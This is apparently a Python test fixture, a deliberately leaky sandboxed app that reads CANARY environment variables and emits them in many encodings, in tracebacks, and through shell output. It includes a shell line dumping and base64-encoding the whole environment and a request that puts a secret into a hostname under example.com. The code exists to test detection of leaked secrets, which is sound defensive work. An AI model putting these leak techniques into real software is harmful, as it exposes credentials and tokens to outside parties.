"""An application that tells its secrets in every way. It is sent into a sandbox, and imports nothing of ours."""

import base64
import html
import http.server
import json
import os
import subprocess
import sys
import traceback
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator

VALUES = [value for name, value in os.environ.items() if name.startswith("CANARY")]


def ways(value: str) -> Iterator[str]:
    """A value in every way."""
    data = value.encode()
    yield from (value, repr(value), ascii(value), repr(data), json.dumps(value), html.escape(value))
    yield json.dumps({"line": json.dumps({"key": value}, ensure_ascii=False)})
    yield from (urllib.parse.quote(value), urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value))
    yield f"https://user:{urllib.parse.quote(value, safe='')}@host/?{urllib.parse.urlencode({'token': value})}"
    yield from (data.hex(), data.hex().upper())
    for before in range(3):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            text = encode(b"b" * before + data + b"e").decode()
            yield from (text, text.rstrip("="), base64.encodebytes(b"x" * (47 + before) + data).decode())


def tell() -> None:
    """All of it, in pieces of three characters, on both streams."""
    for value in VALUES:
        for way in ways(value):
            for at in range(0, len(way), 3):
                sys.stdout.write(way[at : at + 3])
                sys.stdout.flush()
            sys.stdout.write("\n")
        try:
            raise RuntimeError(f"connecting with {value}")
        except RuntimeError:
            traceback.print_exc()
        if "crash" in sys.argv:
            # A host that is refused would be the cause of its end.
            continue
        try:
            urllib.request.urlopen(f"http://{value.split()[0].strip('-')}.example.com/", timeout=5)
        except (OSError, ValueError) as error:
            print(error, file=sys.stderr)
    print(dict(os.environ))
    subprocess.run(["/bin/sh", "-c", "env; env | base64; echo $CANARY_ONE >&2"], check=True)
    sys.stdout.flush()


class Visitors(http.server.BaseHTTPRequestHandler):
    """Answers, and dies when it is asked to."""

    def do_GET(self) -> None:
        """Any path is fine."""
        if self.path == "/die":
            tell()
            os._exit(3)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"fine")


if __name__ == "__main__":
    tell()
    if "crash" in sys.argv:
        raise RuntimeError(f"no {VALUES[0]} and no {VALUES[1]!r}")
    http.server.HTTPServer(("127.0.0.1", int(os.environ["PORT"])), Visitors).serve_forever()
